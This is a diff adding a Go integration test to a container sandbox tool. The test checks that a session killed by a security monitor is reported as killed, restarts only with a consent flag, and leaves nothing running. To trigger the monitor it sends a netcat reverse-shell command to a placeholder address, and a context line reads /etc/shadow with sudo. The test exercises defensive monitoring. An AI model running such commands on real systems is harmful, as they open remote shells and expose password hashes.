@@ -81,3 +81,45 @@ export PATH=/usr/local/bin:$PATH; test -z "$(ps aux)" && touch /workspace/lying;
 	goOn(t, dir, "sudo /usr/bin/cat /etc/shadow >/dev/null")
 	s.status("frozen", func(st run.WatchStatus) bool { return st.Frozen != nil })
 }
+
+// S54 S58: a kept container that the monitor killed is named by coi list, starts
+// again only with consent, and starts anew: nothing that ran in it goes on.
+func TestKilledSession(t *testing.T) {
+	dir := workspace(t)
+	name := launched(t, dir, "--persistent")
+	must(t, dir, "tmux", "send", name, "sudo touch /run/witness; sleep 98765 & touch up")
+	err := house.Eventually(t.Context(), 30*time.Second, func() error { _, err := os.Stat(dir + "/up"); return err })
+	if err != nil {
+		t.Fatal(err)
+	}
+	const look = "test -e /run/witness && echo file; pgrep -f 'sleep 9876[5]' >/dev/null && echo process; true"
+	if r := must(t, dir, "container", "exec", name, "--", "sh", "-c", look); r.Stdout != "file\nprocess\n" {
+		t.Fatalf("control: what is to be lost is not there: %s", r)
+	}
+	must(t, dir, "tmux", "send", name, "nc -e /bin/sh 198.51.100.7 4242")
+	if err := house.Eventually(t.Context(), time.Minute, func() error { return notEnded(name) }); err != nil {
+		t.Fatal(err)
+	}
+	err = house.Eventually(t.Context(), 30*time.Second, func() error {
+		if r := do(t, dir, "list"); r.Code != 0 || !strings.Contains(r.Stdout, "killed by monitor") || !strings.Contains(r.Stdout, name) {
+			return errors.New(r.String())
+		}
+		return nil
+	})
+	if err != nil {
+		t.Error(err)
+	}
+	again := []string{"shell", "--background", "--debug", "--persistent"}
+	if r := do(t, dir, again...); r.Code != 2 || !strings.Contains(r.Stderr, "killed by the monitor") || !strings.Contains(r.Stderr, "--start-killed") {
+		t.Errorf("%s\nwant exit 2 and the flag of consent", r)
+	}
+	if r := must(t, dir, append(again, "--start-killed")...); strings.TrimSpace(r.Stdout) != name {
+		t.Errorf("%s\nwant %s", r, name)
+	}
+	if r := must(t, dir, "container", "exec", name, "--", "sh", "-c", look); r.Stdout != "" {
+		t.Errorf("something of the killed session goes on: %s", r)
+	}
+	if r := must(t, dir, "list"); strings.Contains(r.Stdout, "stopped (killed") {
+		t.Errorf("%s\nwant no word of killed for what runs", r)
+	}
+}
